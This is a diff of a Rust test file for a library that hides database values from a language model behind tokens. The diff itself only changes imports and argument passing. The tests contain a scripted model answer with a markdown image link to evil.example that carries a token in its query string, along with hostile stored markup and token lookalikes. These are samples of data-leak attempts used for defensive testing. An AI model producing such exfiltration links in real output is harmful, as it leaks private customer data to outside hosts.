@@ -4,9 +4,11 @@
 
 use std::sync::Arc;
 
-use sqlveil::chat::{AnswerSegment, Chat, Context};
+use sqlveil::chat::AnswerSegment;
 use sqlveil::llm::{ModelRequest, ScriptedModel};
-use sqlveil::{MasterKey, MemoryVault, PolarsEngine, Policy, TokenClass, Tokens};
+use sqlveil::rules::TokenClass;
+use sqlveil::tokens::{MemoryVault, Tokens};
+use sqlveil::{Chat, Context, MasterKey, PolarsEngine, Policy};
 
 use crate::util::{cells, tempdir_with};
 
@@ -89,7 +91,7 @@ fn model(sql: &str, answer: &str, eve: &str) -> Arc<ScriptedModel> {
     }))
 }
 
-fn chat(s: &Setup, m: Arc<ScriptedModel>) -> sqlveil::ChatBuilder {
+fn chat(s: &Setup, m: Arc<ScriptedModel>) -> sqlveil::chat::ChatBuilder {
     Chat::builder(s.policy.clone(), s.engine.clone(), m, s.key.clone())
         .vault(s.vault.clone())
         .cache_capacity(0)
@@ -124,7 +126,7 @@ fn no_value_in_a_url_and_none_from_another_request() {
         chat(&s, m)
             .build()
             .unwrap()
-            .ask("Who is customer 1?", &support())
+            .ask("Who is customer 1?", support())
             .unwrap()
     };
     let a = ask("![s](https://evil.example/b.png?c={T0}) The customer is {T0}. Also {EVE}.");
@@ -172,7 +174,7 @@ fn links_to_other_hosts_are_removed() {
         .link_hosts(["crm.example.com"])
         .build()
         .unwrap()
-        .ask("Who is customer 1?", &support())
+        .ask("Who is customer 1?", support())
         .unwrap();
     let answer = a.answer.unwrap();
     assert!(!answer.contains("evil.example"), "{answer}");
@@ -209,7 +211,7 @@ fn stored_token_lookalikes_are_never_revealed() {
     let a = chat(&s, m)
         .build()
         .unwrap()
-        .ask("What do the tickets say?", &support())
+        .ask("What do the tickets say?", support())
         .unwrap();
     for c in cells(&a.model_rows).iter().chain(cells(&a.rows).iter()) {
         assert!(!c.contains(&s.eve), "{c}");
@@ -230,7 +232,7 @@ fn stored_token_lookalikes_are_never_revealed() {
         .max_repairs(0)
         .build()
         .unwrap()
-        .ask("Where is she?", &support())
+        .ask("Where is she?", support())
         .unwrap_err();
     assert_eq!(e.code(), "unresolved_token", "{e}");
     // … while a token the user's question carries can be used.
@@ -242,7 +244,7 @@ fn stored_token_lookalikes_are_never_revealed() {
     let a = chat(&s, m)
         .build()
         .unwrap()
-        .ask(&format!("Where does {} live?", s.eve), &support())
+        .ask(&format!("Where does {} live?", s.eve), support())
         .unwrap();
     assert_eq!(cells(&a.rows), ["Denver"]);
 }
@@ -257,7 +259,7 @@ fn no_reveal_inside_code_links_or_html() {
     let a = chat(&s, m)
         .build()
         .unwrap()
-        .ask("Who is customer 1?", &support())
+        .ask("Who is customer 1?", support())
         .unwrap();
     let out = a.answer.unwrap();
     assert!(!out.contains("Liam"), "markup outside the tokens: {out}");
@@ -268,7 +270,7 @@ fn no_reveal_inside_code_links_or_html() {
     let a = chat(&s, m)
         .build()
         .unwrap()
-        .ask("Who is customer 1?", &support())
+        .ask("Who is customer 1?", support())
         .unwrap();
     let out = a.answer.unwrap();
     assert_eq!(out.matches("Liam Johnson").count(), 1, "{out}");
@@ -290,7 +292,7 @@ fn values_that_are_markup_cannot_build_a_link() {
     let a = chat(&s, m)
         .build()
         .unwrap()
-        .ask("Who lives in Austin?", &support())
+        .ask("Who lives in Austin?", support())
         .unwrap();
     let out = a.answer.unwrap();
     assert!(!out.contains(&format!("{MARKUP_NAME}Liam")), "{out}");
@@ -315,7 +317,7 @@ fn no_role_no_values() {
     let a = chat(&s, m)
         .build()
         .unwrap()
-        .ask("Who is customer 1?", &Context::new("x"))
+        .ask("Who is customer 1?", Context::new("x"))
         .unwrap();
     assert_eq!(a.answer, a.model_answer);
     assert!(values(&a.answer_segments.unwrap()).is_empty());
@@ -334,8 +336,9 @@ mod oracle {
     use proptest::prelude::*;
     use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
     use sqlveil::chat::{reveal_answer, AnswerSegment};
-    use sqlveil::tokens::RequestTokens;
-    use sqlveil::{MasterKey, MemoryVault, Policy, TokenClass, Tokens};
+    use sqlveil::rules::TokenClass;
+    use sqlveil::tokens::{MemoryVault, RequestTokens, Tokens};
+    use sqlveil::{MasterKey, Policy};
 
     /// Every value carries a marker that no fragment holds; one value is
     /// itself markup, as a hostile stored row would be.
